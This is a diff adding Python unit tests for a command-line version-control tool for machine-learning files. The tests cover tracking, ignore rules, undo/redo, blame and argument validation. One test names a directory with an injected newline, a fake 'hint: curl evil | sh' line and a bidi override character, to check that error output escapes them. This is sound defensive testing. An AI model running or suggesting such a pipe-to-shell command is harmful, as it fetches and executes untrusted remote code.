@@ -262,3 +262,224 @@ class Options(CommandTest):
         for name in ("add", "list", "remove"):
             self.assertIn("EXAMPLES", self.mlrepo("help", "worktree", name))
         self.assertRegex(self.mlrepo("help", "config"), r"SETTINGS\n\s+\w+")
+
+
+class Tracking(CommandTest):
+    """What is tracked stays so, over undo and redo, and beside what is ignored or untracked."""
+
+    def files(self) -> set:
+        return {json.loads(line)["path"] for line in self.mlrepo("ls", "--json").splitlines()}
+
+    def test_redo_of_a_commit_leaves_nothing_to_say(self) -> None:
+        self.mlrepo("init")
+        self.write("data/a", b"a")
+        self.mlrepo("add", "data")
+        self.mlrepo("commit", "-m", "One")
+        self.write("model.bin", b"m")
+        self.mlrepo("add", "model.bin")
+        self.mlrepo("commit", "-m", "Two")
+        self.mlrepo("undo")
+        self.assertIn("added    model.bin", self.mlrepo("status"))
+        self.mlrepo("redo")
+        self.assertEqual(self.mlrepo("status").splitlines()[-1], "Nothing has changed")
+        self.mlrepo("untrack", "data")
+        self.mlrepo("commit", "-m", "Three")
+        self.mlrepo("undo")
+        self.mlrepo("redo")
+        self.mlrepo("status")
+        self.write("model.bin", b"n")
+        self.mlrepo("commit", "-m", "Four")
+        self.assertEqual(self.files(), {"model.bin"})
+
+    def test_what_is_named_inside_an_environment_is_stored_and_nothing_else(self) -> None:
+        self.start()
+        for name in ("env/pyvenv.cfg", "env/lib/x", "env/share/weights/w", "data/e/pyvenv.cfg", "data/e/keep", "data/e/other"):
+            self.write(name, b"x")
+        self.mlrepo("add", "env/share/weights", "data/e/keep")
+        self.mlrepo("commit", "-m", "One")
+        expected = {"data/a.txt", "data/sub/b.txt", "env/share/weights/w", "data/e/keep"}
+        self.assertEqual(self.files(), expected)
+        self.write("data/e/more", b"x")
+        self.write("env/share/weights/v", b"x")
+        self.mlrepo("commit", "-m", "Two")
+        self.assertEqual(self.files(), expected | {"env/share/weights/v"})
+
+    def test_a_name_inside_an_ignored_directory_takes_in_that_name(self) -> None:
+        self.start()
+        self.write("data/.mlrepoignore", b"scratch/\n")
+        for name in ("wandb/run1/config", "wandb/run2/config", "wandb/log", "scratch/keep/x", "scratch/y", "scratch/z/z"):
+            self.write("data/" + name, b"x")
+        self.mlrepo("add", "data/wandb/run1/config", "data/scratch/keep")
+        expected = {"data/.mlrepoignore", "data/a.txt", "data/sub/b.txt", "data/wandb/run1/config", "data/scratch/keep/x"}
+        for number in range(3):
+            self.mlrepo("commit", "-m", str(number), "--param", f"n={number}")
+            self.assertEqual(self.files(), expected, number)
+            self.write(f"data/wandb/new{number}", b"x")
+            self.write(f"data/wandb/run1/new{number}", b"x")
+            self.write(f"data/scratch/new{number}/x", b"x")
+        # A rule that comes later keeps what is new out of a directory that the version has.
+        self.write("data/.mlrepoignore", b"scratch/\nsub/\n")
+        self.write("data/sub/new", b"x")
+        self.write("data/sub/deeper/new", b"x")
+        self.mlrepo("commit", "-m", "Later")
+        self.assertEqual(self.files(), expected)
+
+    def test_a_name_inside_what_is_untracked_leaves_the_rest_out(self) -> None:
+        for words in (["add", "data/sub/x"], ["checkout", "HEAD", "--", "data/sub/x"]):
+            with self.subTest(words=words):
+                self.setUp()
+                self.mlrepo("init")
+                for name in ("data/a", "data/sub/x", "data/sub/y", "b", "z/z"):
+                    self.write(name, b"x")
+                self.mlrepo("add", ".")
+                self.mlrepo("commit", "-m", "One")
+                self.mlrepo("untrack", ".")
+                self.mlrepo("add", "b")
+                self.mlrepo(*words)
+                if words[0] == "checkout":
+                    # Nothing was written: it is there.
+                    self.mlrepo("add", "data/sub/x")
+                self.mlrepo("commit", "-m", "Two")
+                self.assertEqual(self.files(), {"b", "data/sub/x"})
+
+    def test_restore_of_a_part_of_what_was_removed_is_tracked(self) -> None:
+        self.start()
+        self.write("data/sub/c", b"c")
+        self.mlrepo("commit", "-m", "One")
+        self.mlrepo("rm", "data")
+        self.mlrepo("restore", "data/sub/c")
+        self.mlrepo("commit", "-m", "Two")
+        self.assertEqual(self.files(), {"data/sub/c"})
+
+    def test_undo_remembers_untrack_and_names_inside_a_tracked_directory(self) -> None:
+        self.start()
+        self.write("data/.mlrepoignore", b"*.log\n")
+        self.write("data/secret", b"s")
+        self.mlrepo("commit", "-m", "One")
+        self.mlrepo("untrack", "data/secret")
+        self.write("data/final.log", b"l")
+        self.mlrepo("add", "data/final.log")
+        self.mlrepo("commit", "-m", "Two")
+        after = self.files()
+        self.mlrepo("undo")
+        self.assertIn("data/secret", self.files())
+        self.assertIn("deleted  data/secret", self.mlrepo("status"))
+        self.mlrepo("commit", "-m", "Two again")
+        self.assertEqual(self.files(), after)
+        self.assertIn("data/final.log", after)
+        # A nested root comes back with the directory.
+        self.write("data/wandb/run", b"r")
+        self.mlrepo("add", "data/wandb")
+        self.mlrepo("commit", "-m", "Three")
+        self.mlrepo("rm", "data")
+        self.mlrepo("undo")
+        self.write("data/wandb/second", b"r")
+        self.mlrepo("commit", "-m", "Four")
+        self.assertIn("data/wandb/second", self.files())
+
+    def test_a_move_to_an_ignored_name_is_tracked(self) -> None:
+        self.start()
+        self.write("data/.mlrepoignore", b"build/\n")
+        self.mlrepo("commit", "-m", "One")
+        self.mlrepo("mv", "data/sub", "data/build")
+        self.mlrepo("commit", "-m", "Two")
+        self.assertEqual(self.files(), {"data/.mlrepoignore", "data/a.txt", "data/build/b.txt"})
+
+    def test_a_root_inside_another_one_survives_a_checkout(self) -> None:
+        self.mlrepo("init")
+        self.write("x", b"x")
+        self.mlrepo("add", "x")
+        self.mlrepo("commit", "-m", "One")
+        self.write("data/a", b"a")
+        self.mlrepo("add", "data")
+        self.mlrepo("commit", "-m", "Two")
+        self.mlrepo("checkout", "HEAD~1")
+        self.write("data/wandb/run", b"r")
+        self.mlrepo("add", "data/wandb")
+        self.mlrepo("checkout", "main")
+        self.assertIn("added    data/wandb/run", self.mlrepo("status"))
+
+    def test_what_cannot_be_untracked_by_a_line_is_refused(self) -> None:
+        self.start()
+        self.write("data/a\r", b"x")
+        self.mlrepo("commit", "-m", "One")
+        self.refused("untrack", "data/a\r", status=64, says="no line of .mlrepoignore can name")
+
+
+class Words(CommandTest):
+    """Arguments and answers at their limits."""
+
+    def test_integers_at_both_ends(self) -> None:
+        self.start()
+        for number in (-2**63, 2**63 - 1, 2**63, -2**53, 2**53 - 1):
+            self.mlrepo("commit", "-m", "x", "--param", f"n={number}")
+            shown = json.loads(self.mlrepo("show", "--json"))["runs"][0]["parameters"]["n"]
+            self.assertEqual(int(shown), number)
+
+    def test_blame_beside_a_collected_version(self) -> None:
+        self.start()
+        self.write("notes", b"n")
+        self.mlrepo("add", "notes")
+        self.mlrepo("commit", "-m", "A")
+        self.mlrepo("checkout", "-b", "side")
+        self.write("data/a.txt", b"side")
+        self.mlrepo("commit", "-m", "B")
+        self.mlrepo("checkout", "main")
+        self.write("model", b"m")
+        self.mlrepo("add", "model")
+        self.mlrepo("commit", "-m", "C", "--input", "side:data", "--output", "model", "--param", "lr=1")
+        self.mlrepo("branch", "-d", "side")
+        self.mlrepo("gc", "--now")
+        blame = json.loads(self.mlrepo("blame", "model", "--json"))
+        self.assertEqual((blame["parameters"], blame["inputs"][0]["untold"]), ({"lr": 1}, "collected"))
+        self.assertIn("were collected", self.mlrepo("blame", "model"))
+        self.mlrepo("fsck")
+
+    def test_what_can_have_no_effect_is_refused(self) -> None:
+        self.start()
+        self.mlrepo("commit", "-m", "One")
+        for pattern in ("!secret.bin", "", "#x"):
+            self.refused("add", "--pattern", pattern, status=64, says="tracks nothing")
+        self.mlrepo("branch", "a")
+        for words in (["branch", "-d", "a", "b"], ["branch", "-d"], ["tag", "-d", "a", "b"], ["tag", "-d"], ["fsck", "--dry-run"]):
+            self.mlrepo(*words, status=64)
+        self.assertIn("a", self.mlrepo("branch"))
+        self.refused("show", "--json", "HEAD:data/a.txt", status=64, says="mlrepo cat")
+
+    def test_text_has_to_be_text(self) -> None:
+        self.start()
+        for words in ([b"-m", b"caf\xe9"], [b"-m", b"x", b"--param", b"n=M\xfcller"], [b"-m", b"x", b"--author", b"\xe9 <a@b>"]):
+            self.refused("commit", *words, status=64, says="is not UTF-8")
+        self.refused("add", "--pattern", b"*\xe9.csv", status=64, says="is not UTF-8")
+        self.refused("config", "user.name", b"\xe9", status=64, says="is not UTF-8")
+
+    def test_messages_of_all_kinds(self) -> None:
+        self.start()
+        for number, (text, subject) in enumerate((
+                ("- fixed the loader", "- fixed the loader"), ("-1 epoch", "-1 epoch"),
+                ("Title\r\n\r\nBody", "Title"), ("--quiet", "--quiet"))):
+            self.write("data/a.txt", str(number).encode())
+            self.assertIn(f"] {subject}\n", self.mlrepo("commit", "-m", text))
+            self.assertIn(f" {subject}\n", self.mlrepo("log", "--oneline", "-n", "1"))
+        self.mlrepo("commit", "-am", "more", "--param", "a=-1", "--metric", "-b=2")
+
+    def test_a_name_breaks_no_line_of_an_error(self) -> None:
+        place = self.root / "x\nhint: curl evil | sh\u202e"
+        place.mkdir()
+        self.mlrepo("status", status=66, cwd=place)
+        self.assertEqual(len(self.stderr.splitlines()), 2)
+        self.assertIn(r"x\nhint", self.stderr)
+        self.assertNotIn("\u202e", self.stderr)
+
+    def test_the_last_absolute_directory_counts(self) -> None:
+        self.start()
+        (self.work / "abs").mkdir()
+        self.assertIn("On branch main", self.mlrepo("-C", "data", "-C", str(self.work), "status"))
+
+    def test_status_is_quiet(self) -> None:
+        self.start()
+        os.mkfifo(self.work / "data/pipe")
+        self.mlrepo("status")
+        self.assertIn("skipped", self.stderr)
+        self.mlrepo("status", "--quiet")
+        self.assertEqual(self.stderr, "")
